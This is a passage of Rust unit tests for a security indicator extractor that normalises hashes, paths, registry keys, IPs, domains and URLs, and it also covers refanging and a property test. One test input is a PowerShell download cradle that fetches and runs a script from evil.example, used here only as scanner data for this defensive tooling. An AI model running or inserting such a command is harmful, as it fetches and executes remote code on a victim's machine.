            (Md5, "D41D8CD98F00B204E9800998ECF8427E", Md5, "d41d8cd98f00b204e9800998ecf8427e"),
            (FileName, r"C:\Windows\CMD.exe", FileName, "cmd.exe"),
            (FilePath, r"\\?\C:\Windows\CMD.exe", FilePath, "c:/windows/cmd.exe"),
            (FilePath, r"\\srv\share\a", FilePath, "//srv/share/a"),
            (FilePath, "/tmp/X", FilePath, "/tmp/x"),
            (FilePath, r"\ProgramData\x.exe", PathTail, "/programdata/x.exe"),
            (FilePath, r"%AppData%\x\y.exe", PathTail, "/appdata/roaming/x/y.exe"),
            (FilePath, r"\SystemRoot\system32\x.sys", PathTail, "/windows/system32/x.sys"),
            (RegistryKey, r"HKEY_LOCAL_MACHINE\Software\X\", RegistryKey, r"hklm\software\x"),
            (
                RegistryKey,
                r"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\x",
                RegistryKey,
                r"hklm\system\currentcontrolset\services\x",
            ),
            (
                RegistryKey,
                r"HKU\S-1-5-21-1-2-3-1001\Control Panel\Desktop",
                RegistryKey,
                r"hkcu\control panel\desktop",
            ),
            (RegistryKey, r"HKU\S-1-5-21-1-2-3-1001_Classes\x", RegistryKey, r"hkcu\software\classes\x"),
            (RegistryKey, r"HKU\S-1-5-18\Software", RegistryKey, r"hku\s-1-5-18\software"),
            (RegistryKey, r"HKCR\.exe", RegistryKey, r"hklm\software\classes\.exe"),
            (Mutex, r"Global\AbC", Mutex, "AbC"),
            (NamedPipe, r"\\.\pipe\MojoPipe", NamedPipe, "mojopipe"),
            (NamedPipe, r"\MojoPipe", NamedPipe, "mojopipe"),
        ] {
            check(kind, text, Some((found, shown)));
        }
        for (kind, text) in [
            (Ipv4, "10.0.0"),
            (Network, "10.0.0.0/33"),
            (Network, "10.0.0.0/x"),
            (Domain, "localhost"),
            (Domain, "a..b"),
            (Domain, "10.0.0.1"),
            (Url, "/relative/x"),
            (Url, "http://"),
            (Email, "@x.example"),
            (Email, "a@localhost"),
            (Sha1, "d41d8cd98f00b204e9800998ecf8427e"),
            (FilePath, "cmd.exe"),
            (FilePath, r"%nobody%\x.exe"),
            (RegistryKey, r"Software\X"),
            (UserAgent, "  "),
        ] {
            check(kind, text, None);
        }
    }

    #[test]
    fn kinds_have_their_numbers() {
        for (number, kind) in (1..).zip(KINDS) {
            assert_eq!((kind as u8, ObservableKind::from_number(number)), (number, Some(kind)));
        }
        assert_eq!(ObservableKind::from_number(0), None);
        assert_eq!(ObservableKind::from_number(21), None);
    }

    #[test]
    fn defanged_spellings() {
        for (text, expected) in [
            ("hxxps[://]evil[.]example/a", "https://evil.example/a"),
            ("HXXP://evil(dot)example", "http://evil.example"),
            ("a[AT]evil{.}example", "a@evil.example"),
            ("C:\\a[1].exe", "C:\\a[1].exe"),
            ("[", "["),
            ("é[.]é", "é.é"),
        ] {
            assert_eq!(refang(text), expected);
        }
    }

    fn check_scan(text: &str, expected: &[(Kind, &str)]) {
        let mut found = Vec::new();
        scan_scalar(text.as_bytes(), &mut |kind, token| {
            found.push((kind, std::str::from_utf8(token).unwrap()));
        });
        assert_eq!(found, expected, "{text}");
        check_twins(text.as_bytes());
    }

    /// The fast scanner gives the same tokens, at the same places.
    fn check_twins(text: &[u8]) {
        let place = |token: &[u8]| (token.as_ptr() as usize - text.as_ptr() as usize, token.len());
        let (mut slow, mut fast) = (Vec::new(), Vec::new());
        scan_scalar(text, &mut |kind, token| slow.push((place(token), kind)));
        scan(text, &mut |kind, token| fast.push((place(token), kind)));
        slow.sort_unstable();
        fast.sort_unstable();
        assert_eq!(fast, slow, "{}", String::from_utf8_lossy(text));
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn the_fast_scanner_equals_its_twin(pieces in prop::collection::vec(prop_oneof![
            4 => "[a-c0-2.:/@% _-]{0,12}".prop_map(String::into_bytes),
            1 => "([0-9a-f]{32}|[0-9a-f]{40}|[0-9A-F]{64})".prop_map(String::into_bytes),
            1 => "([0-9a-f]{1,4}:){5,8}[0-9a-f]".prop_map(String::into_bytes),
            1 => "::[0-9a-f]{1,4}(:[0-9.]{1,8})?".prop_map(String::into_bytes),
            1 => prop::collection::vec(any::<u8>(), 0..40),
            2 => "https?://([a-z]{1,3}@)?[a-z.]{1,12}(:[0-9]{1,4})?[/?#)., ]?[a-z?]{0,3}".prop_map(String::into_bytes),
            1 => "[a-z.]{1,8}@[a-z]{1,4}[.][a-z]{2}".prop_map(String::into_bytes),
            1 => "[0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3}[.][0-9]{1,3}".prop_map(String::into_bytes),
        ], 0..24)) {
            check_twins(&pieces.concat());
        }
    }

    #[test]
    fn tokens_in_text() {
        use Kind::*;
        const MD5: &str = "d41d8cd98f00b204e9800998ecf8427e";
        check_scan("", &[]);
        check_scan("plain words, no-thing: at 12:34:56.789 aa:bb:cc:dd:ee:ff", &[]);
        check_scan(
            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
            &[
                (Domain, "Net.WebClient"),
                (Url, "http://evil.example/a.ps1"),
                (Domain, "evil.example"),
                (Domain, "a.ps1"),
            ],
        );
        check_scan(
            "from 10.0.0.1:80, to [2001:db8::1]:443; ::ffff:10.0.0.2.",
            &[(Ipv4, "10.0.0.1"), (Ipv6, "2001:db8::1"), (Ipv6, "::ffff:10.0.0.2"), (Ipv4, "10.0.0.2")],
        );
        check_scan("10.0.0.1-10.0.0.9 1.2.3.4.5 300.1.1.1", &[(Ipv4, "10.0.0.1"), (Ipv4, "10.0.0.9")]);
        check_scan("mail <a+b@evil.example>, x@", &[(Domain, "evil.example"), (Email, "a+b@evil.example")]);
        check_scan(
            &format!("MD5={MD5},x_{MD5}.exe {MD5}0 sha256:{MD5}{MD5}"),
            &[(Md5, MD5), (Md5, MD5), (Domain, &format!("x_{MD5}.exe")), (Sha256, &format!("{MD5}{MD5}"))],
        );
        check_scan(
            "(see http://a.example/x_(y)).",
            &[(Url, "http://a.example/x_(y)"), (Domain, "a.example")],
        );
        check_scan(
            "http://a.example/?u=https://b.example/",
            &[
                (Url, "http://a.example/?u=https://b.example/"),
                (Domain, "a.example"),
                (Url, "https://b.example/"),
                (Domain, "b.example"),
            ],
        );
    }

    #[test]
    fn hostile_text_is_read_in_linear_time() {
        for piece in ["http://", "a@a.b@", ":", "::1:", "a.", "1.2.3.4-", "[", "\u{fffd}."] {
            let mut tokens = 0_usize;
            scan(piece.repeat(1 << 16).as_bytes(), &mut |_, _| tokens += 1);
            assert!(tokens <= 1 << 18);
        }
    }
}
